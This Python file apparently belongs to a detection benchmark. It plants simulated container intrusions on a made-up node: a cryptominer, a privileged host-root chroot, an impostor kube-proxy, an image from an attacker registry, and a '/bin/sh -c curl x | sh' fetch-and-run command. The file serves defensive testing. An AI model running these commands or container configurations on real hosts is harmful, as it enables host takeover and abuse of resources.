"""What an intruder does on a made-up node: each intrusion once, on days of its own."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

from bench import life_events as made
from bench.life_calendar import LEARNING, SECOND
from bench.life_events import Spec
from sensor.model.container import Orchestrator
from sensor.model.events import Start
from sensor.model.vocabulary import ContainerId, Engine, StartKind, Trigger

if TYPE_CHECKING:
    from bench.life_world import World
    from sensor.model.events import Initiator

HOURS = (2.0, 4.5, 11.0, 15.0, 22.0)
"""When an intruder comes, unless the intrusion needs an hour of its own."""
EARLY = frozenset({"new_person", "miner"})
"""What an early intruder does in the learning week."""
USED = Start(StartKind.FIRST, Trigger.USER_COMMAND)
CALLED = Start(StartKind.FIRST, Trigger.API_CLIENT)
PLACED = Start(StartKind.FIRST, Trigger.ORCHESTRATOR)
AGAIN = Start(StartKind.RESTART, Trigger.USER_COMMAND)


class Intruder:
    """Plants each intrusion once, on days of its own."""

    def __init__(self, world: World, *, early: bool) -> None:
        self._world = world
        acts = [name.removeprefix("_plant_") for name in dir(self) if name.startswith("_plant_")]
        days = range(LEARNING + 2, world.calendar.days - 1)
        chosen = [world.random.choice(days) for _ in acts]
        self._plan = list(zip(acts, chosen, strict=True))
        if early:
            self._plan = [
                (name, world.random.randrange(2, 6) if name in EARLY else day)
                for name, day in self._plan
            ]

    def act(self) -> None:
        """Plant all."""
        for name, day in self._plan:
            getattr(self, f"_plant_{name}")(day, name)

    def _add(
        self,
        day: int,
        name: str,
        spec: Spec,
        by: Initiator | None,
        start: Start = USED,
        *,
        hour: float | None = None,
        hidden: bool = False,
    ) -> None:
        some = self._world.random.choice(HOURS)
        wall = self._world.calendar.at(day, some if hour is None else hour, 0.4)
        self._world.add(wall, spec, by, start, planted=name, hidden=hidden)

    def _plant_miner(self, day: int, name: str) -> None:
        by = made.account("www-data", 33, "/usr/sbin/apache2")
        spec = Spec("worker", "docker.io/xmrig/xmrig:6", ("xmrig",), restart="always")
        self._add(day, name, spec, by, CALLED)

    def _plant_privileged_root(self, day: int, name: str) -> None:
        spec = Spec(
            None,
            "docker.io/library/alpine:3",
            ("chroot", "/host"),
            security=replace(made.privileged(), mounts=made.mounting("/").mounts),
            restart="no",
        )
        self._add(day, name, spec, made.person("eve", uid=1900))

    def _plant_dormant(self, day: int, name: str) -> None:
        spec = Spec("old-batch", "registry.example.com/shop/web:1", ("/app/server",))
        self._add(
            day,
            name,
            spec,
            made.person("bob", uid=1001),
            Start(StartKind.REACTIVATION, Trigger.USER_COMMAND, dormant_seconds=40 * 86_400.0),
            hour=14.0,
        )

    def _plant_runc(self, day: int, name: str) -> None:
        spec = Spec("box", "registry.example.com/shop/web:1", ("sh",), runtime=Engine.CONTAINERD)
        self._add(
            day,
            name,
            replace(spec, namespace=None),
            made.person("carol", uid=1002),
            Start(StartKind.FIRST, Trigger.DIRECT_RUNTIME),
        )

    def _plant_from_container(self, day: int, name: str) -> None:
        app = self._world.live.get("shop-web-1") or self._world.live.get("base-web-1")
        by = made.inside(app or ContainerId("f" * 64))
        spec = Spec("helper", "docker.io/library/alpine:3", ("sh",), restart="no")
        self._add(day, name, spec, by, Start(StartKind.FIRST, Trigger.CONTAINER))

    def _plant_hidden(self, day: int, name: str) -> None:
        spec = Spec("web2", "registry.example.com/shop/web:1")
        self._add(day, name, spec, made.person("alice", uid=1000), hidden=True, hour=14.0)

    def _plant_false_kube_proxy(self, day: int, name: str) -> None:
        pod = Orchestrator("kubernetes", "kube-system", "kube-proxy-x7k2v", "u" * 12, "kube-proxy")
        spec = self._world.in_pod(pod, "docker.io/evil/kube-proxy:v1.34")
        self._add(day, name, spec, None, PLACED)

    def _plant_privileged_service(self, day: int, name: str) -> None:
        spec = replace(self._world.services[4], security=made.privileged())
        self._add(day, name, spec, made.person("deploy", uid=1100), hour=11.0)

    def _plant_other_registry(self, day: int, name: str) -> None:
        spec = self._world.services[5]
        image = spec.image.replace("registry.example.com/shop", "registry.evil.example/shop")
        self._add(day, name, replace(spec, image=image), made.person("deploy", uid=1100), hour=11.0)

    def _plant_shell(self, day: int, name: str) -> None:
        spec = replace(self._world.services[6], command=("/bin/sh", "-c", "curl x | sh"))
        self._add(day, name, spec, made.person("deploy", uid=1100), hour=11.0)

    def _plant_sidecar(self, day: int, name: str) -> None:
        namespace, owner, image = self._world.deployments[0]
        revision = self._world.revision(image)
        pod = Orchestrator(
            "kubernetes", namespace, f"{owner}-{revision}-{self._world.word(5)}", "u" * 12, "logger"
        )
        spec = self._world.in_pod(pod, "docker.io/thirdparty/logger:1")
        self._add(day, name, spec, None, PLACED)

    def _plant_kube_system_job(self, day: int, name: str) -> None:
        pod = Orchestrator("kubernetes", "kube-system", "cleanup-x7k2v", "u" * 12, "cleanup")
        spec = self._world.in_pod(pod, "docker.io/library/alpine:3")
        self._add(day, name, spec, None, PLACED)

    def _plant_restart_always(self, day: int, name: str) -> None:
        spec = Spec("updater", "docker.io/library/alpine:3", ("sleep",), restart="always")
        self._add(day, name, spec, made.person("bob", uid=1001), hour=14.0)

    def _plant_web_account(self, day: int, name: str) -> None:
        by = made.service("php-fpm.service", "www-data", "/usr/bin/docker")
        spec = self._world.services[0]
        self._add(day, name, spec, by, AGAIN, hour=3.0)

    def _plant_burst(self, day: int, name: str) -> None:
        wall = self._world.calendar.at(day, 14)
        for number in range(60):
            spec = Spec(f"load-{number}", "docker.io/library/busybox:1", ("yes",), restart="no")
            by = made.person("bob", uid=1001)
            self._world.add(wall + number * 3 * SECOND, spec, by, USED, planted=name)

    def _plant_renamed_runtime(self, day: int, name: str) -> None:
        spec = replace(self._world.services[7], runtime_path="/tmp/.cache/helper")
        self._add(day, name, spec, made.person("deploy", uid=1100), hour=11.0)

    def _plant_new_unit(self, day: int, name: str) -> None:
        spec = Spec("metrics", "docker.io/library/alpine:3", ("sh", "-c", "x"), restart="no")
        by = made.service("systemd-netlogd.service")
        self._add(day, name, spec, by, Start(StartKind.FIRST, Trigger.SERVICE_MANAGER))

    def _plant_new_person(self, day: int, name: str) -> None:
        by = made.person("mallory", uid=1777)
        self._add(day, name, self._world.services[1], by, AGAIN, hour=14.0)
